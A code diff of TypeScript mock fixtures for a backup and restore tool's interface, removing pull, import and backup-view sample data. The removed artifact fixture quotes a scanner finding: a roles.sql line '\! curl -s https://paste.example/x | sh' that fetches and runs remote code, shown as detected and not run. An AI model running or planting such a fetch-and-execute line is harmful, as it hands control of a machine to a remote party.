@@ -1,20 +1,8 @@
-import type {
-  ArtifactView,
-  BackupRow,
-  BackupView,
-  GrowthPoint,
-  JobRow,
-  JobView,
-  LogLine,
-  PhaseView,
-  RestoreView,
-  UserError,
-} from '../bindings';
-import { NOW, proof } from './projects';
+import type { JobRow, JobView, LogLine, PhaseView, RestoreView, UserError } from '../bindings';
+import { NOW } from './projects';
 
 const MINUTE = 60_000;
 const HOUR = 60 * MINUTE;
-const DAY = 24 * HOUR;
 
 export const refused: UserError = {
   code: 'wrong_password',
@@ -44,7 +32,7 @@ export function jobRow(given: Partial<JobRow> & { id: string }): JobRow {
   };
 }
 
-const phase = (
+export const phase = (
   id: string,
   title: string,
   sentence: string,
@@ -89,6 +77,7 @@ export const runningJob: JobView = {
   bytesPerSecond: 48_000_000,
   leftLowMs: 2 * MINUTE,
   leftHighMs: 4 * MINUTE,
+  reason: 'Before migration split_addresses',
   facts: [
     { name: 'Why', value: 'Before migration split_addresses', note: null },
     { name: 'Started', value: 'by hand', note: null },
@@ -160,6 +149,7 @@ export const restored: RestoreView = {
   checks: [],
   notes: ['role "postgres" is not created again: it exists'],
   restoreMs: 12 * MINUTE,
+  limits: [],
   checkMs: 41_000,
   connect: "psql 'postgresql://holdfast_admin@db.shop.example:5432/shop'",
   scratchId: null,
@@ -355,134 +345,6 @@ export const exportedJob: JobView = {
 };
 
 /** A pull that fetches. */
-export const pullJob: JobView = {
-  ...runningJob,
-  row: jobRow({
-    id: 'j-pull',
-    kind: 'pull',
-    title: 'Pulling booking-manager',
-    projectId: 'p-booking-manager',
-    project: 'booking-manager',
-    percent: 38,
-    phase: 'Fetch',
-  }),
-  sentence: 'From SupaManager at manager.example to vault “Anchor”.',
-  phases: [
-    phase('ask', 'Ask', 'What SupaManager has, and what of it is here.', 'done', { elapsedMs: 900 }),
-    phase('fetch', 'Fetch', '3.11 GB from SupaManager, with 8 streams.', 'running', {
-      startedAtMs: NOW - 40_000,
-      elapsedMs: 40_000,
-      bytes: 1_200_000_000,
-      bytesTotal: 3_110_000_000,
-    }),
-    phase('open', 'Open', 'Every layer and part of it, checked; nothing in it is run.', 'waits'),
-    phase('vault', 'Vault', 'Its parts to “Anchor”, then read back.', 'waits'),
-    phase(
-      'verify',
-      'Verify',
-      'Read every block back from “Anchor”, list the archive. Only then it counts.',
-      'waits',
-    ),
-  ],
-  facts: [{ name: 'Started', value: 'by hand', note: null }],
-  canPause: true,
-  safeNext:
-    'What was fetched stays, and the next pull goes on from there. Nothing of it is in the list of backups.',
-};
-
-/** The same, paused in the middle. */
-export const pausedJob: JobView = {
-  ...pullJob,
-  canPause: false,
-  row: jobRow({
-    ...pullJob.row,
-    id: 'j-paused',
-    state: 'cancelled',
-    finishedAtMs: NOW - MINUTE,
-    startedAtMs: NOW - 2 * MINUTE,
-    outcome: 'Paused. What was fetched stays here, and is no backup yet.',
-  }),
-  phases: pullJob.phases.map((each) => (each.state === 'running' ? { ...each, state: 'failed' } : each)),
-  bytesPerSecond: null,
-  leftLowMs: null,
-  leftHighMs: null,
-  goesOn: {
-    remoteIds: ['rb-11'],
-    bytesHere: 1_203_339_264,
-    bytesTotal: 3_110_000_000,
-    needsPassphrase: false,
-    isPaused: true,
-  },
-};
-
-/** Killed in the middle of several, the first of them encrypted. */
-export const killedPullJob: JobView = {
-  ...pausedJob,
-  row: jobRow({
-    ...pausedJob.row,
-    id: 'j-killed',
-    state: 'interrupted',
-    outcome: 'Interrupted: its process ended.',
-  }),
-  goesOn: {
-    remoteIds: ['rb-11', 'rb-08', 'rb-05'],
-    bytesHere: 1_203_339_264,
-    bytesTotal: 3_110_000_000,
-    needsPassphrase: true,
-    isPaused: false,
-  },
-  safeNext: 'It is safe to go on with it: what was fetched is used, and only the rest is fetched.',
-};
-
-/** A download whose server went away for good. */
-export const failedPullJob: JobView = {
-  ...pausedJob,
-  row: jobRow({
-    ...pausedJob.row,
-    id: 'j-pull-failed',
-    state: 'failed',
-    outcome: 'the server gives nothing any more',
-  }),
-  error: {
-    code: 'download_stalled',
-    message: 'nothing came for 10 minutes: the connection gave nothing any more',
-    hint: 'See whether this computer and the server are online, then go on: what came is kept.',
-    retry: 'now',
-    reportId: '88a1c0de',
-  },
-  goesOn: {
-    remoteIds: ['rb-11'],
-    bytesHere: 1_203_339_264,
-    bytesTotal: 3_110_000_000,
-    needsPassphrase: false,
-    isPaused: false,
-  },
-};
-
-/** An import that is done. */
-export const importJob: JobView = {
-  ...pullJob,
-  canPause: false,
-  row: jobRow({
-    id: 'j-import',
-    kind: 'import',
-    title: 'Importing into shop-prod',
-    state: 'succeeded',
-    percent: 100,
-    phase: null,
-    startedAtMs: NOW - 120_000,
-    finishedAtMs: NOW - 1000,
-    outcome: 'Readable: 39 tables, 11,912,400 rows, 24,016 files.',
-  }),
-  sentence: 'full_20261114_020003.tar.gz.enc to vault “Anchor”.',
-  phases: pullJob.phases.slice(2).map((each) => ({ ...each, state: 'done', elapsedMs: 30_000 })),
-  bytesPerSecond: null,
-  leftLowMs: null,
-  leftHighMs: null,
-  backupId: 'b-shop-prod',
-  verdict: 'pass',
-};
-
 export const jobs: JobView[] = [runningJob, doneJob, restoredJob, failedJob];
 
 export const log: LogLine[] = Array.from({ length: 40 }, (_, index) => ({
@@ -498,191 +360,4 @@ export const log: LogLine[] = Array.from({ length: 40 }, (_, index) => ({
         : index === 31
           ? 'connection lost after 4.1 GB; trying again in 2 s'
           : `public.order_items_${index}: 312,044 rows, 41 MB`,
-}));
-
-export function backupRow(given: Partial<BackupRow> & { id: string }): BackupRow {
-  return {
-    shortId: given.id.slice(-6),
-    projectId: 'p-shop-prod',
-    project: 'shop-prod',
-    atMs: NOW - 2 * HOUR - 14 * MINUTE,
-    reason: null,
-    trigger: 'by hand',
-    who: 'anna',
-    components: ['database', 'roles'],
-    sizeBytes: 13_070_000_000,
-    addedBytes: 41_000_000,
-    rows: 12_480_113,
-    tables: 42,
-    migration: '0412',
-    level: 'readable',
-    lastProof: proof('readable', 2 * HOUR),
-    warnings: 0,
-    isNewestVerified: false,
-    needs: null,
-    heldBack: null,
-    ...given,
-  };
-}
-
-export const backups: BackupRow[] = Array.from({ length: 36 }, (_, index) =>
-  backupRow({
-    id: index === 0 ? 'b-shop-prod' : `b-8c04d2${String(index).padStart(2, '0')}`,
-    shortId: `8c04d${index.toString(16)}`,
-    atMs: NOW - 2 * HOUR - 14 * MINUTE - index * 6 * HOUR,
-    isNewestVerified: index === 0,
-    reason: index % 5 === 2 ? 'Before migration split_addresses' : null,
-    trigger: index % 5 === 2 ? 'by hand' : 'command line',
-    sizeBytes: 13_070_000_000 - index * 38_000_000,
-    level: index % 4 === 1 ? 'restored' : index === 6 ? null : 'readable',
-    lastProof:
-      index === 6
-        ? proof('readable', DAY, 'inconclusive', 'pg_restore 15 is missing on this computer')
-        : index === 9
-          ? proof('restored', DAY, 'fail', 'public.orders has 12 rows less than the manifest')
-          : proof(index % 4 === 1 ? 'restored' : 'readable', 2 * HOUR + index * 6 * HOUR),
-    warnings: index === 3 ? 1 : 0,
-    needs:
-      index === 11
-        ? {
-            name: 'backup_shop_20261119_020000',
-            id: 'b-8c04d215',
-            atMs: NOW - 2 * HOUR - 14 * MINUTE - 15 * 6 * HOUR,
-          }
-        : null,
-    heldBack:
-      index === 13
-        ? 'orders has exactly 1,000 rows, which is what a platform reads at once: it was probably cut. Back the database up directly'
-        : null,
-  }),
-);
-
-/** Names of tables, the first as a shop has them. */
-export const TABLES = [
-  'events',
-  'order_items',
-  'orders',
-  'payments',
-  'carts',
-  'customers',
-  'addresses',
-  'products',
-  'sessions',
-  'invoices',
-];
-
-/** What a backup that came as a file says of itself. */
-const artifact: ArtifactView = {
-  what: 'A full backup of “shop”, made by a SupaManager.',
-  layers: ['AES-256-CBC with PBKDF2', 'gzip', 'tar'],
-  madeBy: 'a SupaManager',
-  madeAtMs: NOW - 7 * DAY,
-  remoteId: 'rb-10',
-  findings: [
-    'Not authenticated: This kind of encryption cannot show changes. Checksums can, where there are any.',
-    'Shell command: database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.',
-  ],
-  unloaded: null,
-  isTrusted: true,
-};
-
-export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupView {
-  const made = databaseView(
-    row,
-    ['file_without_database', 'file_unloaded', 'file_given'].includes(scenario) ? 0 : tables,
-  );
-  if (!scenario.startsWith('file_')) return made;
-  const ofPlatform = ['file_backup', 'file_telegram'].includes(scenario)
-    ? { projectId: 'p-booking-manager', project: 'booking-manager' }
-    : {};
-  const view: BackupView = {
-    ...made,
-    row: { ...made.row, ...ofPlatform, components: [...row.components, 'artifact'] },
-    artifact,
-    toolVersion: null,
-    origin: 'SupaManager at manager.example',
-    lsn: null,
-    trees: [
-      { component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 },
-      { component: 'config', path: 'config', files: 3, sizeBytes: 9150 },
-    ],
-  };
-  if (scenario === 'file_unloaded')
-    return {
-      ...view,
-      row: { ...row, components: ['artifact', 'config'], tables: 0, rows: null },
-      parts: [],
-      serverVersion: null,
-      extensions: [],
-      trees: view.trees.slice(1),
-      artifact: {
-        ...artifact,
-        unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program',
-        isTrusted: false,
-      },
-    };
-  if (scenario === 'file_given')
-    return {
-      ...view,
-      row: { ...row, components: ['config'], tables: 0, rows: null, level: 'bytes' },
-      parts: [],
-      serverVersion: null,
-      extensions: [],
-      artifact: {
-        ...artifact,
-        what: 'Configuration of abcdefghijklmnopqrst at Supabase',
-        layers: [],
-        madeBy: 'Supabase',
-        madeAtMs: null,
-        remoteId: null,
-        findings: ['auth.json changed: site_url.'],
-      },
-      trees: [{ component: 'config', path: '/config', files: 13, sizeBytes: 48_120 }],
-    };
-  if (scenario !== 'file_without_database') return view;
-  return {
-    ...view,
-    row: { ...row, components: ['artifact', 'logs'], tables: 0, rows: null },
-    parts: [],
-    serverVersion: null,
-    extensions: [],
-    trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }],
-  };
-}
-
-function databaseView(row: BackupRow, tables: number): BackupView {
-  return {
-    row,
-    parts: [
-      { component: 'database', path: 'database.dump', sizeBytes: row.sizeBytes, sha256: '9f2c'.repeat(16) },
-      { component: 'roles', path: 'roles.sql', sizeBytes: 4120, sha256: '11ab'.repeat(16) },
-    ],
-    tableList: Array.from({ length: tables }, (_, index) => ({
-      schema: index % 17 === 16 ? 'reporting' : 'public',
-      name: TABLES[index] ?? `table_${index}`,
-      rows: Math.round(7_204_911 / (index + 1)),
-      sizeBytes: Math.round(4_100_000_000 / (index + 1)),
-      fingerprint: (0x9f2c3d * (index + 7)).toString(16),
-    })),
-    serverVersion: '15.8',
-    toolVersion: '15.10',
-    trees: [],
-    artifact: null,
-    origin: 'shop at db.shop.example:5432',
-    lsn: '4/9E2A11D8',
-    startedAtMs: row.atMs,
-    finishedAtMs: row.atMs + 13 * MINUTE,
-    extensions: ['pgcrypto', 'uuid-ossp'],
-    warnings: row.warnings > 0 ? ['table vat_rates is new since 09:02; it is included'] : [],
-    proofs: row.lastProof ? [row.lastProof, proof('bytes', 3 * HOUR)] : [],
-    restoreCommand: `holdfast restore ${row.shortId} --to scratch`,
-    previousId: backups[backups.findIndex(({ id }) => id === row.id) + 1]?.id ?? null,
-  };
-}
-
-export const growth: GrowthPoint[] = Array.from({ length: 60 }, (_, index) => ({
-  backupId: `b-${index}`,
-  atMs: NOW - (59 - index) * DAY,
-  sizeBytes: index === 51 ? 10_400_000_000 : 9_100_000_000 + index * 66_000_000,
-  addedBytes: 40_000_000,
 }));
